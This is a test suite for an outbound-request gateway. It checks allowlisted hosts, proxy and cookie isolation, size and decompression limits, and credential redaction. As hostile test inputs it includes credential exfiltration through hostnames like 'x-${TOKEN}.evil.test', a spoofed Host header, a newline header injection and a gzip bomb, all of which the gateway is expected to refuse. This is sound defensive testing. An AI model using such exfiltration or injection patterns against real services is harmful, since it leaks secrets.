import { gzipSync } from 'node:zlib'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { EgressSession } from '../../../src/main/egress/egress.ts'
import { createEgressFixture, type EgressFixture, TOKEN } from '../../support/egress-fixture.ts'

let door: EgressFixture
beforeEach(() => {
  door = createEgressFixture()
})
afterEach(() => door.close())

const local = (port: number) => `127.0.0.1:${port}`

describe('a request through the door', () => {
  it('goes out as it was written and comes back as fetch gives it', async () => {
    const wire = await door.serve((_, response) => {
      response.writeHead(201, { 'content-type': 'application/json', 'x-two': ['a', 'b'] })
      response.end('{"ok":true}')
    })
    const { session, told, uses } = door.open({ allowedHosts: [local(wire.port)] })
    const response = await session.fetch(`http://${local(wire.port)}/v1/x?token=${TOKEN}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: '{"a":1}',
    })
    expect(response).toBeInstanceOf(Response)
    expect([response.status, response.statusText, response.ok, response.redirected]).toEqual([
      201,
      'Created',
      true,
      false,
    ])
    expect(response.url).toBe(`http://${local(wire.port)}/v1/x?token=${TOKEN}`)
    expect(response.headers.get('x-two')).toBe('a, b')
    expect(await response.json()).toEqual({ ok: true })
    expect(wire.seen).toMatchObject([
      {
        method: 'POST',
        url: `/v1/x?token=${TOKEN}`,
        body: '{"a":1}',
        headers: {
          authorization: `Bearer ${TOKEN}`,
          host: local(wire.port),
          'content-length': '7',
          'user-agent': 'Patchbay',
        },
      },
    ])
    expect(told).toEqual([
      {
        method: 'POST',
        host: local(wire.port),
        path: '/v1/x',
        app: 'vendor',
        outcome: 'answered',
        status: 201,
        requestBytes: 7,
        responseBytes: 11,
        durationMs: expect.any(Number),
      },
    ])
    expect(uses).toEqual([{ host: local(wire.port), outcome: 'answered', status: 201 }])
  })

  it.each<[string, () => RequestInit, (body: string, type: string | undefined) => void]>([
    [
      'form fields',
      () => ({ body: new URLSearchParams({ a: '1 2' }) }),
      (body, type) =>
        expect([body, type]).toEqual(['a=1+2', 'application/x-www-form-urlencoded;charset=UTF-8']),
    ],
    [
      'a form with a file',
      () => {
        const form = new FormData()
        form.set('file', new File(['hello'], 'a.txt', { type: 'text/plain' }))
        return { body: form }
      },
      (body, type) => {
        expect(type).toMatch(/^multipart\/form-data; boundary=/)
        expect(body).toContain('filename="a.txt"')
        expect(body).toContain('hello')
      },
    ],
    ['bytes', () => ({ body: new TextEncoder().encode('raw') }), body => expect(body).toBe('raw')],
    ['a blob', () => ({ body: new Blob(['blob']) }), body => expect(body).toBe('blob')],
    [
      'a stream',
      () => ({ body: new Blob(['streamed']).stream(), duplex: 'half' }) as RequestInit,
      body => expect(body).toBe('streamed'),
    ],
  ])('carries %s', async (_what, init, check) => {
    const wire = await door.serve((_, response) => response.end())
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    await session.fetch(`http://${local(wire.port)}/`, { method: 'PUT', ...init() })
    const [seen] = wire.seen
    check(seen?.body ?? '', seen?.headers['content-type'])
  })

  it('reuses its connection, in another step too', async () => {
    const wire = await door.serve((_, response) => response.end('x'))
    const { egress } = door.open()
    for (let step = 0; step < 6; step++) {
      const { session } = door.open({ egress, allowedHosts: [local(wire.port)], secrets: [`secret ${step}`] })
      await (await session.fetch(`http://${local(wire.port)}/`)).text()
      session.end()
    }
    expect(wire.seen).toHaveLength(6)
    expect(wire.connections()).toBeLessThan(3)
  })

  it('may be one of many at once, without a warning on the way', async () => {
    const wire = await door.serve((_, response) => response.end('x'))
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    const warnings: Error[] = []
    const listen = (warning: Error) => warnings.push(warning)
    process.on('warning', listen)
    await Promise.all(
      Array.from({ length: 40 }, async () => (await session.fetch(`http://${local(wire.port)}/`)).text()),
    )
    await new Promise(setImmediate)
    process.off('warning', listen)
    expect([wire.seen.length, warnings]).toEqual([40, []])
  })

  it('sends no cookies that a server has set', async () => {
    const wire = await door.serve((_, response) => {
      response.setHeader('set-cookie', 'session=1')
      response.end()
    })
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    for (let i = 0; i < 2; i++) await (await session.fetch(`http://${local(wire.port)}/`)).text()
    expect(wire.seen.map(({ headers }) => headers.cookie)).toEqual([undefined, undefined])
  })

  it('takes no proxy from the environment', async () => {
    const wire = await door.serve((_, response) => response.end('direct'))
    const proxy = await door.serve((_, response) => response.end('proxied'))
    process.env.HTTP_PROXY = process.env.http_proxy = `http://${local(proxy.port)}`
    try {
      const { session } = door.open({ allowedHosts: [local(wire.port)] })
      expect(await (await session.fetch(`http://${local(wire.port)}/`)).text()).toBe('direct')
    } finally {
      delete process.env.HTTP_PROXY
      delete process.env.http_proxy
    }
    expect(proxy.seen).toEqual([])
  })

  it('[S-CR-2] is refused when its Host header names another host, and quotes no header it can’t send', async () => {
    const wire = await door.serve((_, response) => response.end())
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    const url = `http://${local(wire.port)}/`
    await expect(session.fetch(url, { headers: { host: 'evil.test' } })).rejects.toMatchObject({
      code: 'step.invalid-props',
    })
    const error = await session
      .fetch(url, { headers: { authorization: `${TOKEN}\nx: y` } })
      .catch((thrown: unknown) => thrown)
    expect(error).toMatchObject({ code: 'step.invalid-props' })
    expect(String(error)).not.toContain(TOKEN)
    expect(wire.seen).toEqual([])
  })

  it('is refused before anything is sent when its host is not allowed, and that is told', async () => {
    const wire = await door.serve((_, response) => response.end())
    const { session, told, uses } = door.open()
    await expect(session.fetch(`http://${local(wire.port)}/?t=${TOKEN}`)).rejects.toMatchObject({
      code: 'auth.host-not-allowed',
    })
    expect(wire.connections()).toBe(0)
    expect(told).toMatchObject([{ method: 'GET', host: local(wire.port), outcome: 'refused', app: 'vendor' }])
    expect(uses).toEqual([{ host: local(wire.port), outcome: 'refused' }])
    expect(JSON.stringify(told)).not.toContain(TOKEN)
  })

  it.each<[string, (session: EgressSession) => Promise<unknown>]>([
    ['an address', session => session.fetch(`https://x-${TOKEN}.evil.test/`)],
    ['a connection', session => session.connect({ host: `${TOKEN}.evil.test`, port: 5432 })],
  ])('[S-CR-4] of %s whose host holds the credential does not even name that host', async (_what, send) => {
    const { session, told, uses } = door.open({ secrets: [TOKEN.toUpperCase()] })
    const error: unknown = await send(session).catch((thrown: unknown) => thrown)
    expect(error).toMatchObject({ code: 'auth.host-not-allowed' })
    expect(uses).toEqual([{ host: '•••', outcome: 'refused' }])
    expect(JSON.stringify([String(error), error, told, uses])).not.toMatch(new RegExp(TOKEN, 'i'))
  })

  it('that can’t reach anybody says why, and may be tried again', async () => {
    const { session, told } = door.open({ allowedHosts: ['127.0.0.1:9'] })
    await expect(session.fetch('http://127.0.0.1:9/')).rejects.toMatchObject({
      name: 'RetryableError',
      code: 'provider.unreachable',
      message: expect.stringContaining('ECONNREFUSED'),
    })
    expect(told).toMatchObject([{ outcome: 'failed', host: '127.0.0.1:9' }])
  })

  it('stops when the step is stopped, with its reason', async () => {
    const wire = await door.serve(() => undefined)
    const aborter = new AbortController()
    const { session, told } = door.open({ allowedHosts: [local(wire.port)], signal: aborter.signal })
    const reason = new Error('stopped')
    const pending = session.fetch(`http://${local(wire.port)}/`)
    const outcome = expect(pending).rejects.toBe(reason)
    while (wire.seen.length === 0) await new Promise(setImmediate)
    aborter.abort(reason)
    await outcome
    expect(told).toMatchObject([{ outcome: 'failed' }])
    session.end()
    await expect(session.fetch(`http://${local(wire.port)}/`)).rejects.toThrow()
  })

  it('ends with the session: nothing goes on behind a step’s back', async () => {
    const wire = await door.serve((_, response) => {
      response.write('begun')
    })
    const { session, told } = door.open({ allowedHosts: [local(wire.port)] })
    const response = await session.fetch(`http://${local(wire.port)}/`)
    session.end()
    await expect(response.text()).rejects.toThrow()
    await expect(session.fetch(`http://${local(wire.port)}/`)).rejects.toMatchObject({
      code: 'run.cancelled',
    })
    expect(told).toHaveLength(1)
  })
})

describe('limits of an answer', () => {
  it('gives up on headers that do not come', async () => {
    const wire = await door.serve(() => undefined)
    const { session } = door.open({
      allowedHosts: [local(wire.port)],
      limits: { headersTimeoutMs: 1000 },
    })
    await expect(session.fetch(`http://${local(wire.port)}/`)).rejects.toMatchObject({
      code: 'provider.unreachable',
      details: { reason: 'UND_ERR_HEADERS_TIMEOUT' },
    })
  })

  it('refuses what is too large, by its own word or while it is read', async () => {
    const limits = { maxResponseBytes: 100_000 }
    const wire = await door.serve((request, response) => {
      if (request.url === '/told') response.setHeader('content-length', '100001')
      response.write(Buffer.alloc(100_000))
      response.end('x')
    })
    const { session, told } = door.open({ allowedHosts: [local(wire.port)], limits })
    await expect(session.fetch(`http://${local(wire.port)}/told`)).rejects.toMatchObject({
      code: 'provider.rejected',
    })
    const chunked = await session.fetch(`http://${local(wire.port)}/chunked`)
    await expect(chunked.text()).rejects.toMatchObject({ code: 'provider.rejected' })
    expect(told.map(({ outcome }) => outcome)).toEqual(['failed', 'failed'])
  })

  it('unpacks, and stops at what unpacks to too much', async () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000))
    const wire = await door.serve((request, response) => {
      response.setHeader('content-encoding', request.url === '/odd' ? 'zip' : 'gzip')
      response.end(request.url === '/bomb' ? bomb : gzipSync('unpacked'))
    })
    const { session } = door.open({
      allowedHosts: [local(wire.port)],
      limits: { maxResponseBytes: 1_000_000 },
    })
    const url = `http://${local(wire.port)}`
    expect(await (await session.fetch(`${url}/`)).text()).toBe('unpacked')
    expect(bomb.length).toBeLessThan(100_000)
    const answer = await session.fetch(`${url}/bomb`)
    await expect(answer.arrayBuffer()).rejects.toMatchObject({ code: 'provider.rejected' })
    await expect(session.fetch(`${url}/odd`)).rejects.toMatchObject({ code: 'provider.rejected' })
  })
})

describe('[R44] a credential that was refused', () => {
  const answering = (status: (method: string) => number) =>
    door.serve((request, response) => {
      response.statusCode = status(request.method ?? '')
      response.end()
    })

  it.each<[string, readonly string[], boolean]>([
    ['at a reading request', ['GET'], true],
    ['at the request that would have changed something', ['POST'], true],
    ['after a change', ['PATCH', 'GET'], false],
  ])('%s', async (_when, methods, repeatable) => {
    const wire = await answering(method => (method === 'PATCH' ? 200 : 401))
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    for (const method of methods) await session.fetch(`http://${local(wire.port)}/`, { method })
    expect(session.isRepeatable()).toBe(repeatable)
  })

  it('is none when nothing was refused', async () => {
    const wire = await answering(() => 403)
    const { session } = door.open({ allowedHosts: [local(wire.port)] })
    await session.fetch(`http://${local(wire.port)}/`)
    expect(session.isRepeatable()).toBe(false)
  })
})
